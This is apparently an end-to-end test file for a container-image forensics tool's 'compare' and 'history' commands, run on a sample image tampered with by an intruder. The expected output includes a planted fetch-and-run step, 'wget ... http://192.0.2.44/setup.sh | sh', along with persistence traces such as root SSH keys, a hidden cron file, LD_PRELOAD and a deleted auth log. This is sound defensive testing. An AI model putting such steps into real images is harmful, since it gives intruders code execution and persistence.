using StoreForensics.EndToEnd.Support;

namespace StoreForensics.EndToEnd.Samples;

/// <summary><c>compare</c> on the recorded sample: 1.4 of the shop is 1.3 built again, with what the intruder put into its Dockerfile.</summary>
internal sealed class CompareCommandTests
{
    private static readonly string s_sample = Path.Combine(Checkout.Samples, "webapp-20.10", "webapp-20.10.tar.gz");

    [Test]
    public void Two_releases_fork_after_the_base_and_differ_in_what_was_planted()
    {
        IReadOnlyList<JsonRow> rows = BuiltProgram.Run("compare", s_sample, "shop/web:1.3", "shop/web:1.4", "--format", "json").MustExit(0).JsonRows();
        JsonRow fork = rows[0];
        Assert.Multiple(() =>
        {
            Assert.That(fork.Text("record"), Is.EqualTo("fork"));
            Assert.That(fork.Number("shared_layers"), Is.EqualTo(3));
            Assert.That(fork.Number("shared_steps"), Is.EqualTo(7));
            Assert.That(Of(rows, "step").Where(r => r.Text("side") == "b").Select(r => r.Text("instruction")),
                Has.Member("RUN wget -q -O - http://192.0.2.44/setup.sh | sh"));
            Assert.That(Of(rows, "config").Select(r => $"{r.Text("setting")} {r.Text("name")}"),
                Is.EqualTo(new[] { "Env API_TOKEN", "Env LD_PRELOAD", "Labels org.opencontainers.image.version" }));
            Assert.That(Of(rows, "file").Select(r => $"{r.Text("change")} {r.Text("path")}"), Is.EqualTo(new[]
            {
                "C /etc/app/app.conf", "D /etc/app/conf.d", "D /etc/app/conf.d/log.conf", "A /etc/cron.d/.sysupdate", "C /etc/passwd", "D /opt/legacy/sub",
                    "D /opt/legacy/sub/notes.txt",
                "A /root/.ssh", "A /root/.ssh/authorized_keys", "A /usr/lib/.dbus-helper", "A /usr/local/bin/healthd", "D /var/log/auth.log",
            }));
            Assert.That(Of(rows, "file").Single(r => r.Text("path") == "/etc/passwd").List("differs"), Is.EqualTo(new[] { "mtime" }),
                "written anew with the same content");
        });
    }

    [Test]
    public void History_of_two_images_is_the_same() => Assert.That(
        BuiltProgram.Run("history", s_sample, "shop/web:1.3", "shop/web:1.4").MustExit(0).Text,
            Is.EqualTo(BuiltProgram.Run("compare", s_sample, "shop/web:1.3", "shop/web:1.4").MustExit(0).Text));

    [Test]
    public void Wrong_calls()
    {
        BuiltProgram.Run("compare", s_sample, "shop/web:1.3").MustExit(2).MustExplainItself();
        BuiltProgram.Run("compare", s_sample, "shop/web:1.3", "nobody").MustExit(2).MustExplainItself();
        BuiltProgram.Run("history", s_sample, "shop/web:1.3", "shop/web:1.4", "--changes").MustExit(2).MustExplainItself();
    }

    /// <summary>A step that writes a file anew, with what it was before.</summary>
    [Test]
    public void Changes_of_a_step_tell_before_and_after()
    {
        JsonRow step = BuiltProgram.Run("history", s_sample, "shop/web:1.4", "--changes", "--format", "json").MustExit(0).JsonRows().Single(r =>
            r.Number("step") == 22);
        JsonRow file = step.Objects("changes").Single(c => c.Text("path") == "/etc/app/app.conf");
        var before = new JsonRow(file.Value("before"));
        Assert.Multiple(() =>
        {
            Assert.That((before.Number("size"), file.Number("size")), Is.EqualTo((12L, 18L)));
            Assert.That(before.Text("mtime"), Is.EqualTo("2024-01-15T08:00:00.000000000Z"));
            Assert.That(file.List("differs"), Is.EqualTo(new[] { "size", "mtime", "content" }));
            Assert.That(file.Text("note"), Is.Null);
        });
    }

    private static IEnumerable<JsonRow> Of(IReadOnlyList<JsonRow> rows, string record) => rows.Where(r => r.Text("record") == record);
}
